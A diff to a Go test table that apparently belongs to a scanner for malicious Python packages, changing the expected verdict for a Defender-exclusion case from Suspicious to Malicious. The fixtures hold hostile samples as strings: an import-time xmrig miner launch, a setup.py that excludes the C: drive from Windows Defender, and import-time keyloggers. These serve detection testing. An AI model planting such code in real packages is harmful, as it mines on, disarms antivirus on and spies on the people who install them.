@@ -123,7 +123,7 @@ var ruleCases = []ruleCase{
 	// crypto-miner
 	{"xmrig at import", map[string]string{"p/__init__.py": "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool.example.invalid:3333'])\n"}, "crypto-miner", Malicious},
 	// defence-evasion
-	{"defender exclusion", map[string]string{"setup.py": "import os\nos.system('powershell Add-MpPreference -ExclusionPath C:\\\\')\n"}, "defence-evasion", Suspicious},
+	{"defender exclusion", map[string]string{"setup.py": "import os\nos.system('powershell Add-MpPreference -ExclusionPath C:\\\\')\n"}, "defence-evasion", Malicious},
 	// spyware
 	{"keylogger at import", map[string]string{"p/__init__.py": "from pynput.keyboard import Listener\nListener(on_press=print).start()\n"}, "spyware", Suspicious},
 	{"keylogger only in a function is runtime", map[string]string{"p/keys.py": "from pynput.keyboard import Listener\ndef watch(cb):\n    Listener(on_press=cb).start()\n"}, "", Clean},
